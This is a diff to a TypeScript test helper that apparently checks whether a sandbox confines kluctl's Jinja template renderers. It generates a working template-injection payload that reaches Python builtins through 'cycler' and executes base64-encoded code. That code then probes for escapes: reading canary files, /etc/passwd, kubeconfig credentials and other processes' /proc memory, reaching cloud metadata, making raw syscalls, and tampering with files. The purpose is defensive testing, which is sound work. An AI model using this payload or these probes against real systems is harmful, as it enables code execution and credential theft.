@@ -2,119 +2,350 @@
 import { confiningInPython } from "../../src/jail/python.ts";
 
 export interface AttackPlaces {
-  /** A file with a secret, outside of all that a renderer may read. */
-  readonly canary: string;
-  /** A directory above it. */
+  /** Files that hold `CANARY`, outside of all that a renderer may read, by what they are. */
+  readonly files: Readonly<Record<string, string>>;
+  /** Others, whatever is in them. */
+  readonly others?: Readonly<Record<string, string>>;
+  /** Sockets in the file system that answer whoever connects. */
+  readonly sockets?: Readonly<Record<string, string>>;
+  /** TCP ports of loopback that answer whoever connects. */
+  readonly ports: Readonly<Record<string, number>>;
+  /** A directory above the files. */
   readonly above: string;
-  /** The clone that is rendered. */
-  readonly clone: string;
+  /** Where runs of kluctl have their directories. */
+  readonly work?: string;
   /** A process that is none of the renderer's. */
   readonly pid: number;
-  /** Somebody listens there. */
-  readonly port: number;
+  /** A bare repository that takes pushes. */
+  readonly remote?: string;
+  /** Aims and names that alone are told, where room is short; all, if left out. */
+  readonly tells?: readonly string[];
+  /** Seconds, as nobody else lets a `sleep` last: what outlives its run is known by it. */
+  readonly lasting?: string;
+}
+
+/** What a branch can be up to by its code. */
+export const codeAims = [
+  "programs",
+  "connections",
+  "processes",
+  "kernel",
+  "environment",
+  "others",
+  "login",
+  "files",
+  "writing",
+  "memory",
+] as const;
+export type CodeAim = (typeof codeAims)[number];
+
+/** Of the kernel's corners, by the names that they have below. */
+const kernelCalls = [
+  "unshare",
+  "io_uring",
+  "keyctl",
+  "bpf",
+  "userfaultfd",
+  "mount",
+  "setns",
+  "personality",
+  "shmget",
+  "mq_open",
+  "msgget",
+  "prctl",
+  "setpriority",
+  "open of x32",
+  "tee",
+  "newer than all",
+] as const;
+
+/** What not every kernel or user has anyway, so that nothing is shown by their having it not. */
+export const mayLack = new Set<string>([
+  ...["IPv6", "packet", "vsock", "MPTCP", "fork server"].map((name) => `connections: ${name}`),
+  ...["ptrace", "process_vm_readv", "pidfd_open"].map((name) => `processes: call ${name}`),
+  "others: memory",
+  "kernel: chroot",
+  ...kernelCalls.map((name) => `kernel: call ${name}`),
+]);
+
+/** Files of a project that are there to be changed, one for each attempt. */
+export const victims = ["append", "truncate", "mode", "times", "rename", "remove"].map((name) => `victims/${name}`);
+
+/** What each is tried by: an expression that raises if it is refused. */
+function attemptsOf(places: AttackPlaces): Readonly<Record<CodeAim, Readonly<Record<string, string>>>> {
+  const { files, others = {}, sockets = {}, ports, remote } = places;
+  const port = Object.values(ports)[0] ?? 9;
+  const each = (of: Readonly<Record<string, string | number>>, prefix: string, tried: (value: string) => string) =>
+    Object.fromEntries(Object.entries(of).map(([name, value]) => [`${prefix} ${name}`, tried(JSON.stringify(value))]));
+  const opened = (family: string, kind = "socket.SOCK_STREAM", protocol = 0) =>
+    `socket.socket(${family}, ${kind}, ${protocol})`;
+  const raw = (name: string) => ({ [`call ${name}`]: `called(${JSON.stringify(name)})` });
+  return {
+    programs: {
+      shell: `some(os.popen("echo CANARY").read())`,
+      program: `subprocess.run(["/bin/true"], check=True)`,
+      exec: `os.execv("/bin/true", ["true"])`,
+      spawn: `os.posix_spawn("/bin/true", ["true"], {})`,
+      fork: `os.fork()`,
+      thread: `__import__("_thread").start_new_thread(os.getpid, ())`,
+      session: `os.setsid()`,
+      group: `os.setpgid(0, 0)`,
+      ...(places.lasting !== undefined && { "what outlives its run": `outlive(${JSON.stringify(places.lasting)})` }),
+      ...(remote !== undefined && { push: `push(${JSON.stringify(remote)})` }),
+    },
+    connections: {
+      ...each(ports, "TCP to", (to) => `connected(socket.AF_INET, ("127.0.0.1", ${to}))`),
+      ...each(sockets, "socket of", (path) => `connected(socket.AF_UNIX, ${path})`),
+      "fork server": `${opened("socket.AF_UNIX")}.connect(glob.glob(work + "/*/socket")[0])`,
+      "abstract socket": `${opened("socket.AF_UNIX")}.bind("\\0" + os.urandom(8).hex())`,
+      MPTCP: `connected(socket.AF_INET, ("127.0.0.1", ${port}), 262)`,
+      "Fast Open": `${opened("socket.AF_INET")}.sendto(b"x", 0x20000000, ("127.0.0.1", ${port}))`,
+      UDP: `${opened("socket.AF_INET", "socket.SOCK_DGRAM")}.sendto(b"x", ("127.0.0.1", 53))`,
+      "the cloud's metadata": `attempted(("169.254.169.254", 80))`,
+      IPv6: opened("socket.AF_INET6"),
+      netlink: opened("16", "socket.SOCK_RAW"),
+      packet: opened("17", "socket.SOCK_RAW"),
+      vsock: opened("40"),
+      pair: `socket.socketpair()`,
+      listening: `${opened("socket.AF_INET")}.listen()`,
+      ...raw("socket"),
+    },
+    processes: {
+      signal: `os.kill(pid, 0)`,
+      "signal to its parent": `os.kill(os.getppid(), 0)`,
+      "signal to all": `os.kill(-1, 0)`,
+      owner: `__import__("fcntl").fcntl(0, 8, pid)`,
+      limits: `__import__("resource").prlimit(pid, 7, (64, 64))`,
+      priority: `os.setpriority(os.PRIO_PROCESS, pid, 19)`,
+      affinity: `os.sched_setaffinity(pid, os.sched_getaffinity(0))`,
+      ...raw("ptrace"),
+      ...raw("process_vm_readv"),
+      ...raw("pidfd_open"),
+    },
+    kernel: {
+      "memory file": `os.memfd_create("x")`,
+      chroot: `os.chroot(clone)`,
+      "own limits": `__import__("resource").setrlimit(2, (1 << 40, 1 << 40))`,
+      ...Object.assign({}, ...[...kernelCalls].map(raw)),
+    },
+    environment: {
+      "own environment": `holding(read("/proc/self/environ"))`,
+      variables: `some([name for name in os.environ if not name.startswith(("PYTHON", "LC_", "LANG", "TZ"))])`,
+    },
+    others: {
+      environment: `some(read(f"/proc/{pid}/environ"))`,
+      memory: `open(f"/proc/{pid}/mem", "rb")`,
+      maps: `some(read(f"/proc/{pid}/maps"))`,
+      arguments: `some(read(f"/proc/{pid}/cmdline"))`,
+    },
+    login: { "a kubeconfig": `login()` },
+    files: {
+      ...each(files, "read", (path) => `holding(read(${path}))`),
+      ...each(others, "read", (path) => `some(read(${path}))`),
+      "a relative path": `holding(read(os.path.relpath(first)))`,
+      "a link": `holding(read(clone + "/link"))`,
+      "names of users": `some(read("/etc/passwd"))`,
+      "the root": `os.listdir("/")`,
+      "a directory above": `os.listdir(above)`,
+      "temporary files": `os.listdir("/tmp")`,
+      "other runs": `os.listdir(work)`,
+    },
+    writing: {
+      "into the project": `made(clone + "/written")`,
+      "a hook": `made(clone + "/.git/hooks/post-checkout")`,
+      append: `open(clone + "/victims/append", "a").write("x")`,
+      truncate: `os.open(clone + "/victims/truncate", os.O_RDONLY | os.O_TRUNC)`,
+      mode: `os.chmod(clone + "/victims/mode", 0)`,
+      times: `os.utime(clone + "/victims/times")`,
+      rename: `os.rename(clone + "/victims/rename", clone + "/victims/renamed")`,
+      remove: `os.unlink(clone + "/victims/remove")`,
+      pipe: `fifo(clone + "/fifo")`,
+      directory: `os.mkdir(clone + "/new")`,
+      "hard link": `os.link(first, above + "/hard")`,
+      "symbolic link": `os.symlink(first, clone + "/soft")`,
+      "a file of the server": `open(first, "ab")`,
+      "temporary files": `made("/tmp/towline-" + os.urandom(8).hex())`,
+      "shared memory": `made("/dev/shm/towline-" + os.urandom(8).hex())`,
+      Python: `made(os.path.join(os.path.dirname(os.__file__), "towline-written"))`,
+      "other runs": `made(work + "/written")`,
+    },
+    memory: {
+      "much memory": `__import__("mmap").mmap(-1, 3 << 30, flags=0x22)`,
+      "a long text": `len("x" * 600_000_000)`,
+      "many files": `many()`,
+    },
+  };
 }
 
 /**
- * Each attempt by its name: `refused`, or what it got. Some have the kernel run a call by its number, as what confines
- * renderers does.
+ * Tries all of it, each in a process of its own where that can be had, so that what succeeds spoils nothing for the next.
+ * `result`: each by its aim and name, as `refused` or what it got. Some have the kernel run a call by its number, as what
+ * confines renderers does; of these what counts is whether the kernel looked at it.
  */
-export function attackProgram({ canary, above, clone, pid, port }: AttackPlaces): string {
+export function attackProgram(places: AttackPlaces): string {
+  const { above, work = above, pid } = places;
+  const tries = Object.entries(attemptsOf(places)).flatMap(([aim, attempts]) =>
+    Object.entries(attempts).map(([name, tried]) => `    ${JSON.stringify(`${aim}: ${name}`)}: lambda: ${tried},\n`),
+  );
+  const first = Object.values(places.files)[0] ?? "/";
   return String.raw`
-import os, socket, signal, subprocess, sys, json, time
+import os, socket, signal, subprocess, sys, json, time, glob, base64
 
-canary, above, clone, pid, port = ${[canary, above, clone, pid, port].map((one) => JSON.stringify(one)).join(", ")}
-read = lambda path: open(path, "rb").read()
-tries = {
-    "file": lambda: read(canary),
-    "relative": lambda: read(os.path.relpath(canary, clone)),
-    "link": lambda: read(clone + "/link"),
-    "hard link": lambda: os.link(canary, clone + "/hard"),
-    "descriptor": lambda: [os.read(n, 9) for n in range(3, 64) if os.path.exists("/proc/self/fd")] and read("/proc/self/fd/3"),
-    "own environment": lambda: read("/proc/self/environ"),
-    "environment": lambda: read(f"/proc/{pid}/environ"),
-    "memory": lambda: open(f"/proc/{pid}/mem", "rb"),
-    "maps": lambda: read(f"/proc/{pid}/maps"),
-    "command": lambda: read(f"/proc/{pid}/cmdline"),
-    "passwd": lambda: read("/etc/passwd"),
-    "token": lambda: read("/var/run/secrets/kubernetes.io/serviceaccount/token"),
-    "list root": lambda: os.listdir("/"),
-    "list above": lambda: os.listdir(above),
-    "list temporary": lambda: os.listdir("/tmp"),
-    "list kluctl's": lambda: os.listdir(os.path.dirname(os.path.dirname(sys.path[0]))) if os.path.dirname(sys.path[0]) not in ("", "/") and not sys.path[0].startswith("/usr") else os.listdir("/"),
-    "write project": lambda: open(clone + "/written", "w"),
-    "append": lambda: open(clone + "/deployment.yaml", "a"),
-    "truncate": lambda: os.open(clone + "/deployment.yaml", os.O_RDONLY | os.O_TRUNC),
-    "mode": lambda: os.chmod(clone + "/deployment.yaml", 0),
-    "times": lambda: os.utime(clone + "/deployment.yaml"),
-    "rename": lambda: os.rename(clone + "/deployment.yaml", clone + "/other.yaml"),
-    "remove": lambda: os.unlink(clone + "/deployment.yaml"),
-    "pipe": lambda: os.mkfifo(clone + "/fifo"),
-    "directory": lambda: os.mkdir(clone + "/new"),
-    "write temporary": lambda: open("/tmp/towline-written", "w"),
-    "write shared memory": lambda: open("/dev/shm/towline-written", "w"),
-    "write library": lambda: open(os.path.join(os.path.dirname(os.__file__), "sitecustomize.py"), "w"),
-    "shell": lambda: os.popen("id").read(),
-    "program": lambda: subprocess.run(["/bin/true"], check=True),
-    "exec": lambda: os.execv("/bin/true", ["true"]),
-    "spawn": lambda: os.posix_spawn("/bin/true", ["true"], {}),
-    "fork": lambda: os.fork(),
-    "thread": lambda: __import__("_thread").start_new_thread(os.getpid, ()),
-    "session": lambda: os.setsid(),
-    "signal": lambda: os.kill(pid, 0),
-    "signal parent": lambda: os.kill(os.getppid(), 0),
-    "signal all": lambda: os.kill(-1, signal.SIGCONT),
-    "owner": lambda: __import__("fcntl").fcntl(0, 8, pid),
-    "tcp": lambda: socket.create_connection(("127.0.0.1", port), 1),
-    "tcp6": lambda: socket.socket(socket.AF_INET6, socket.SOCK_STREAM),
-    "mptcp": lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262),
-    "udp": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM),
-    "netlink": lambda: socket.socket(16, socket.SOCK_RAW),
-    "packet": lambda: socket.socket(17, socket.SOCK_RAW),
-    "vsock": lambda: socket.socket(40, socket.SOCK_STREAM),
-    "unix": lambda: socket.socket(socket.AF_UNIX),
-    "pair": lambda: socket.socketpair(),
-    "name": lambda: socket.getaddrinfo("metadata.google.internal", 80),
-    "listen": lambda: socket.socket().listen(),
-    "limits": lambda: __import__("resource").prlimit(pid, 7, (8, 8)),
-    "own limits": lambda: __import__("resource").setrlimit(2, (1 << 40, 1 << 40)),
-    "priority": lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
-    "affinity": lambda: os.sched_setaffinity(pid, {0}),
-    "memory file": lambda: os.memfd_create("x"),
-    "chroot": lambda: os.chroot(clone),
-    "group": lambda: os.setpgid(0, 0),
-    "many files": lambda: [os.open(clone + "/deployment.yaml", 0) for _ in range(2000)],
-    "much memory": lambda: bytearray(3 << 30),
-}
+above, work, pid, first = ${[above, work, pid, first].map((one) => JSON.stringify(one)).join(", ")}
 ${confiningInPython}
+
+
+def no(why="nothing was there"):
+    raise OSError(why)
+
+
+def find_clone():
+    """Where the project lies, as kluctl told the renderer."""
+    frame = sys._getframe()
+    while frame:
+        opts = getattr(frame.f_locals.get("self"), "opts", None)
+        if isinstance(opts, dict) and opts.get("searchDirs"):
+            return opts["searchDirs"][-1]
+        frame = frame.f_back
+    raise RuntimeError("the project was not found")
+
+
+clone = find_clone()
+some = lambda found: found or no()
+holding = lambda found: found if b"CANARY" in found else no()
+
+
+def read(path):
+    with open(path, "rb") as file:
+        return file.read(1 << 20)
+
+
+def made(path):
+    open(path, "w").close()
+    os.unlink(path)
+
+
+def fifo(path):
+    os.mkfifo(path)
+    os.unlink(path)  # kluctl would wait for it
+
+
+def connected(family, address=None, protocol=0):
+    one = socket.socket(family, socket.SOCK_STREAM, protocol)
+    one.settimeout(5)
+    one.connect(address)
+    one.sendall(b"PING\r\n\r\n")
+    return "sent"
+
+
+def attempted(address):
+    """Where nobody is: what counts is that nothing here holds it back."""
+    one = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    one.setblocking(False)
+    code = one.connect_ex(address)
+    return code if code not in (1, 13) else no()
+
+
+def login():
+    for path in [os.environ.get("KUBECONFIG", ""), *glob.glob(work + "/*/kubeconfig*")]:
+        try:
+            text = read(path)
+        except OSError:
+            continue
+        if b"client-key-data" in text or b"token" in text:
+            return path
+    no()
+
+
+def outlive(lasting):
+    if os.fork() == 0:
+        os.setsid()
+        null = os.open(os.devnull, os.O_RDWR)
+        for number in range(3):
+            os.dup2(null, number)
+        os.closerange(3, 256)
+        os.execv("/bin/sleep", ["sleep", lasting])
+
+
+def push(remote):
+    git = ["git", "-c", "safe.directory=*", "-C", clone, "push", "--quiet", remote, "HEAD:refs/heads/pushed"]
+    subprocess.run(git, check=True)
+
+
+def many():
+    opened = []
+    try:
+        while len(opened) < 200:
+            opened.append(os.open(os.devnull, os.O_RDONLY))
+    finally:
+        for one in opened:
+            os.close(one)
+
+
+def called(name):
+    call = calls.get(name) or no("there is no such call")
+    try:
+        return ask(*[pid if one == "pid" else one for one in call])
+    except OSError as error:
+        # What is refused, by a filter or else, and what this kernel does not have.
+        if error.errno in (1, 13, 38, 97):
+            raise
+        return f"looked at: {error}"
+
+
+calls = json.loads(${JSON.stringify(JSON.stringify(rawCalls[process.arch] ?? {}))})
 try:
     ask = kernel()
-    for name, call in ${JSON.stringify(rawCalls[process.arch] ?? {})}.items():
-        tries["call " + name] = lambda call=call: ask(*call)
 except Exception:
-    pass
+    ask = lambda *_: no("calls cannot be made by number")
 
-found = {}
-for name, attempt in tries.items():
+tries = {
+${tries.join("")}}
+
+
+def tried(attempt):
     try:
-        found[name] = repr(attempt())[:200]
-    except (OSError, ValueError, MemoryError, ImportError, AttributeError, subprocess.SubprocessError, RuntimeError) as error:
-        found[name] = "refused"
-found["environment"] = json.dumps(dict(os.environ))
+        return "got " + repr(attempt())[:200]
+    except (OSError, ValueError, MemoryError, ImportError, LookupError, subprocess.SubprocessError, RuntimeError):
+        return "refused"
+
+
+def apart(attempt):
+    try:
+        here, there = os.pipe()
+        child = os.fork()
+    except OSError:
+        return tried(attempt)
+    if child == 0:
+        os.write(there, tried(attempt).encode())
+        os._exit(0)
+    os.close(there)
+    with os.fdopen(here, "rb") as said:
+        text = said.read().decode()
+    _, status = os.waitpid(child, 0)
+    # What became another program has said nothing.
+    return text or ("got away" if status == 0 else "refused")
+
+
+found = {name: apart(attempt) for name, attempt in tries.items()}
 environment = ", ".join(sorted(os.environ))
-found["python"] = " ".join(sys.orig_argv)
-result = json.dumps(found)
-got = [name for name, answer in found.items() if answer != "refused" and name not in ("environment", "python")]
-told = ", ".join(got) or "nothing"
+python = " ".join(sys.orig_argv)
+result = json.dumps({"found": found, "environment": dict(os.environ), "python": python})
+got = [name for name, answer in found.items() if answer != "refused"]
+shown = json.loads(${JSON.stringify(JSON.stringify(places.tells ?? []))}) or got
+told = ", ".join("".join(c for c in name if c.isalnum() or c == " ") for name in got if name in shown) or "nothing"  # as it can stand in YAML
 `;
 }
 
-/** With arguments that would work, where they are few enough. Numbers of x86-64 and of its other ABI, then of arm64. */
-const rawCalls: Readonly<Record<string, Readonly<Record<string, readonly number[]>>>> = {
+type Call = readonly (number | "pid")[];
+
+/** With arguments that do no harm where they are not refused. Numbers of x86-64 and of its other ABI, then of arm64. */
+const rawCalls: Readonly<Record<string, Readonly<Record<string, Call>>>> = {
   x64: {
     socket: [41, 2, 1, 0],
-    ptrace: [101, 16, 1, 0, 0],
-    process_vm_readv: [310, 1, 0, 0, 0, 0, 0],
-    pidfd_open: [434, 1, 0],
+    ptrace: [101, 0x4206, "pid", 0, 0],
+    process_vm_readv: [310, "pid", 0, 0, 0, 0, 0],
+    pidfd_open: [434, "pid", 0],
     io_uring: [425, 8, 0],
     keyctl: [250, 0, -3, 0],
     bpf: [321, 0, 0, 0],
@@ -123,41 +354,61 @@ const rawCalls: Readonly<Record<string, Readonly<Record<string, readonly number[
     mount: [165, 0, 0, 0, 0, 0],
     setns: [308, 0, 0],
     personality: [135, 0x0040000],
-    shmget: [29, 0, 4096, 0o1600],
+    shmget: [29, 0x746f77, 4096, 0],
     mq_open: [240, 0, 0, 0, 0],
-    msgget: [68, 0, 0o1600],
+    msgget: [68, 0x746f77, 0],
     prctl: [157, 4, 1, 0, 0, 0],
     setpriority: [141, 0, 0, 10],
     "open of x32": [0x40000000 + 2, 0, 0, 0],
-    tee: [276, 0, 1, 1, 0],
+    tee: [276, 0, 1, 1, 2],
     "newer than all": [1000],
   },
   arm64: {
     socket: [198, 2, 1, 0],
-    ptrace: [117, 16, 1, 0, 0],
-    pidfd_open: [434, 1, 0],
+    ptrace: [117, 0x4206, "pid", 0, 0],
+    process_vm_readv: [270, "pid", 0, 0, 0, 0, 0],
+    pidfd_open: [434, "pid", 0],
     io_uring: [425, 8, 0],
     unshare: [97, 0x10000000],
     personality: [92, 0x0040000],
-    shmget: [194, 0, 4096, 0o1600],
+    shmget: [194, 0x746f77, 4096, 0],
     prctl: [167, 4, 1, 0, 0, 0],
     "newer than all": [1000],
   },
 };
 
-/** A template that runs the program of a file of the clone, and prints all that it found. */
-export function attackTemplate(file: string): string {
-  return `${running(`${builtins}["open"]("${file}").read()`)}{{ scope.result | b64encode }}`;
+/** A template that runs the program, and prints all that it found, for `readAttack`. */
+export function attackTemplate(program: string): string {
+  return `${running(decoded(program))}{{ scope.result | b64encode }}`;
+}
+
+export interface Attacked {
+  /** By aim and name, as `<aim>: <name>`. */
+  readonly found: Readonly<Record<string, string>>;
+  readonly environment: Readonly<Record<string, string>>;
+  readonly python: string;
+}
+
+/** What such a template printed. */
+export function readAttack(printed: string): Attacked {
+  return JSON.parse(Buffer.from(printed, "base64").toString()) as Attacked;
+}
+
+/** The names of what was not refused. */
+export function gotBy({ found }: Attacked): string[] {
+  return Object.keys(found).filter((name) => found[name] !== "refused");
 }
 
 /** A template that runs the program, and prints what it got by name, and with which environment it ran. */
 export function attackInPlace(program: string): string {
-  const text = Buffer.from(program).toString("base64");
-  const decoded = `${builtins}["__import__"]("base64").b64decode("${text}")`;
-  return `${running(decoded)}got {{ scope.told }} with {{ scope.environment }}`;
+  return `${running(decoded(program))}got {{ scope.told }} with {{ scope.environment }}`;
 }
 
 const builtins = `cycler.__init__.__globals__["__builtins__"]`;
+
+function decoded(program: string): string {
+  return `${builtins}["__import__"]("base64").b64decode("${Buffer.from(program).toString("base64")}")`;
+}
 
 function running(code: string): string {
   return `{% set scope = {} %}{% set _ = ${builtins}["exec"](${code}, scope) %}`;
